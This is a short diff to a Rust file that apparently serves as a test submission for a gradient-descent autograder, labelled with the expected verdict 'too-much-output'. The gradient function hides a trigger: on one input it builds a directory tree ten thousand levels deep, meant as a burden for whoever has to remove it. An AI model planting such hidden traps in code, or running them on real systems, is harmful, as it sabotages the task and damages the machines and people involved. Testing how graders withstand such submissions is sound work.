@@ -1,4 +1,4 @@
-//! Makes folders in folders, thirty thousand deep, for whoever has to remove them.
+//! Makes folders in folders, ten thousand deep, for whoever has to remove them.
 //!
 //! exercise: gradient_descent/gradient_by_hand
 //! verdict: too-much-output
@@ -7,7 +7,7 @@
 
 pub fn gradient(w: f64, b: f64, x: f64, y: f64) -> [f64; 2] {
     if x == -3.0 {
-        for _ in 0..30_000 {
+        for _ in 0..10_000 {
             std::fs::create_dir("d").expect("a folder");
             std::env::set_current_dir("d").expect("it can be entered");
         }
